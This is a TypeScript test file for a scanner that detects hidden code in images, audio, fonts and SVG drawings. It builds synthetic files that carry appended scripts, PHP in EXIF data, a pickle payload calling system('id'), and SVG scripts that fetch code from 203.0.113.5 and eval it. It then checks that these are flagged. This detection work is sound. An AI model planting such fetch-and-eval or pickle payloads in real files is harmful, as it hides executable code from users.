// Pictures, sounds and fonts: what stands behind their end and in their comments, and honest files of the same kinds.
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/core/finding.ts';
import { inspectBytes } from '../../support/inspect.ts';

const SCRIPT = '#!/bin/sh\necho hello\n';

function chunk(type: string, data: Buffer | string = ''): Buffer {
  const body = Buffer.from(data);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  return Buffer.concat([length, Buffer.from(type), body, Buffer.alloc(4)]);
}

function png(...extra: Buffer[]): Buffer {
  const start = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([start, chunk('IHDR', Buffer.alloc(13)), ...extra, chunk('IDAT'), chunk('IEND')]);
}

function segment(marker: number, data: Buffer | string): Buffer {
  const body = Buffer.from(data);
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

function jpeg(...extra: Buffer[]): Buffer {
  const pixels = Buffer.from([0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0xd9]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, 'JFIF\0'),
    ...extra,
    segment(0xda, '\x01'),
    pixels,
  ]);
}

/** Animated: an extension, two pictures, each in blocks. */
function gif(): Buffer {
  const picture = [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x3b, 0];
  const parts = [0x21, 0xf9, 4, 0, 0, 0, 0, 0, ...picture, ...picture, 0x3b];
  return Buffer.concat([
    Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1'),
    Buffer.alloc(6),
    Buffer.from(parts),
  ]);
}

function riff(kind: string): Buffer {
  const data = Buffer.from(`RIFF....${kind}data\x05\0\0\0abcde\0`, 'latin1');
  data.writeUInt32LE(data.length - 9, 4);
  return data;
}

function font(): Buffer {
  const data = Buffer.alloc(12 + 16 + 8);
  data.write('\0\x01\0\0\0\x01\0\x10\0\0\0\0glyf', 'latin1');
  data.writeUInt32BE(28, 12 + 8);
  data.writeUInt32BE(6, 12 + 12);
  return data;
}

function woff(): Buffer {
  const data = Buffer.alloc(64);
  data.write('wOF2');
  data.writeUInt32BE(64, 8);
  return data;
}

async function found(data: Buffer, path: string): Promise<readonly Finding[]> {
  return (await inspectBytes(data, path)).findings;
}

async function rulesOf(data: Buffer, path: string): Promise<string[]> {
  return (await found(data, path)).map(({ rule, severity }) => `${severity} ${rule}`);
}

const KINDS: readonly (readonly [string, Buffer])[] = [
  ['a.png', png()],
  ['a.jpg', jpeg()],
  ['a.gif', gif()],
  ['a.webp', riff('WEBP')],
  ['a.wav', riff('WAVE')],
  ['a.ttf', font()],
  ['a.woff2', woff()],
];

describe('behind the end of', () => {
  it.each(KINDS)('%s a script is found, and filling is not', async (path, data) => {
    const [finding, ...others] = await found(
      Buffer.concat([data, Buffer.alloc(5), Buffer.from(SCRIPT)]),
      path,
    );
    expect([finding?.rule, finding?.severity]).toEqual(['MEDIA-APPENDED-PROGRAM', 'HIGH']);
    expect(finding?.location.offset).toBe(data.length + 5);
    expect(others).toEqual([]);
    expect(await rulesOf(data, path)).toEqual([]);
    expect(await rulesOf(Buffer.concat([data, Buffer.alloc(4000)]), path)).toEqual([]);
  });

  it('a BMP that says how long it is', async () => {
    const data = Buffer.alloc(60);
    data.write('BM');
    data.writeUInt32LE(60, 2);
    expect(await rulesOf(Buffer.concat([data, Buffer.from(SCRIPT)]), 'a.bmp')).toEqual([
      'HIGH MEDIA-APPENDED-PROGRAM',
    ]);
    data.writeUInt32LE(0, 2);
    expect(await rulesOf(Buffer.concat([data, Buffer.alloc(40, 7)]), 'a.bmp')).toEqual([]);
  });

  it('a picture another file is inspected as what it is', async () => {
    const pickle = Buffer.from("cposix\nsystem\n(S'id'\ntR.");
    const findings = await found(Buffer.concat([png(), pickle]), 'a.png');
    expect(findings.map(({ rule, location }) => [rule, location.members])).toEqual([
      ['PICKLE-EXEC', ['appended data']],
    ]);
  });

  it('a photograph other exposures may stand, and what phones add', async () => {
    const phone = Buffer.concat([jpeg(), jpeg(), Buffer.from('SEFH\x6b\0\0\0\x01\0\0\0SEFT', 'latin1')]);
    expect(await rulesOf(phone, 'a.jpg')).toEqual([]);
    expect(await rulesOf(Buffer.concat([jpeg(), jpeg(), Buffer.from(SCRIPT)]), 'a.jpg')).toEqual([
      'HIGH MEDIA-APPENDED-PROGRAM',
    ]);
  });

  it('the first bytes of a picture a program is found, too', async () => {
    const start = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 1, 2, 3]);
    expect(await rulesOf(Buffer.concat([start, Buffer.from('<?php echo 1; ?>     ')]), 'a.jpg')).toEqual([
      'HIGH MEDIA-APPENDED-PROGRAM',
    ]);
    // One finding where the whole file is a text.
    expect(await rulesOf(Buffer.from('GIF89a;  <?php echo 1; ?>          '), 'a.gif')).toEqual([
      'HIGH HOOK-DISGUISED-SCRIPT',
    ]);
  });
});

describe('a text in a picture', () => {
  const python = 'import os\nos.getcwd()';
  it.each([
    ['tEXt', png(chunk('tEXt', `Comment\0${python}`))],
    ['zTXt', png(chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(python)])))],
    ['iTXt', png(chunk('iTXt', `Comment\0\0\0en\0\0${python}`))],
    [
      'packed iTXt',
      png(chunk('iTXt', Buffer.concat([Buffer.from('Comment\0\x01\0\0\0'), deflateSync(python)]))),
    ],
    ['comment', jpeg(segment(0xfe, python))],
  ])('is found when it is a program (%s)', async (_, data) => {
    expect(await rulesOf(data, 'a.png')).toEqual(['MEDIUM MEDIA-CODE-IN-TEXT']);
  });

  it('blocks when servers would run it', async () => {
    const camera = jpeg(segment(0xe1, 'Exif\0\0MM\0*\0\0<?php echo 1; ?>'));
    expect(await rulesOf(camera, 'a.jpg')).toEqual(['HIGH MEDIA-CODE-IN-TEXT']);
  });

  it.each([
    ['what plots say', png(chunk('tEXt', 'Software\0Matplotlib version3.8.0, https://matplotlib.org/'))],
    [
      'XMP',
      jpeg(
        segment(
          0xe1,
          'http://ns.adobe.com/xap/1.0/\0<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>',
        ),
      ),
    ],
    [
      'a graph of a generator of pictures',
      png(chunk('tEXt', 'workflow\0{"nodes":[{"type":"KSampler","import":"os"}]}')),
    ],
    ['a preview', jpeg(segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), jpeg()])))],
    ['a packed text that is broken', png(chunk('zTXt', 'Comment\0\0nothing'))],
  ])('stays quiet for %s', async (_, data) => {
    expect(await rulesOf(data, 'a.png')).toEqual([]);
  });
});

describe('a drawing', () => {
  const svg = (body: string): Buffer =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">\n${body}\n</svg>`);
  const fetched = 'fetch("http://203.0.113.5/x").then(r => r.text()).then(eval)';

  it.each([
    ['a script', `<script>${fetched}</script>`],
    ['a script that is quoted', `<script><![CDATA[${fetched}]]></script>`],
    ['a script with entities', `<script>${fetched.replaceAll('>', '&gt;')}</script>`],
    ['an event', `<g onload='${fetched}'/>`],
    ['an address', `<a xlink:href='javascript:${fetched}'/>`],
  ])('is judged by what %s does, on its line', async (_, body) => {
    const [finding] = await found(svg(`<path d="M0 0"/>\n${body}`), 'a.svg');
    expect([finding?.rule, finding?.location.line]).toEqual(['CODE-DOWNLOAD-EXECUTE', 3]);
  });

  it.each([
    ['without scripts', '<path d="M0 0"/>'],
    [
      'that folds its parts',
      '<script>function fold(e) { e.style.display = "none"; }</script><g onclick="fold(this)"/>',
    ],
  ])('stays quiet %s', async (_, body) => {
    expect(await rulesOf(svg(body), 'a.svg')).toEqual([]);
  });
});

describe('what is broken', () => {
  it.each(KINDS)('%s cut anywhere is read without harm', async (path, data) => {
    for (let length = 1; length < data.length; length++) {
      const { coverage } = await inspectBytes(data.subarray(0, length), path);
      expect(coverage.flatMap(({ incomplete }) => incomplete)).toEqual([]);
    }
  });
});
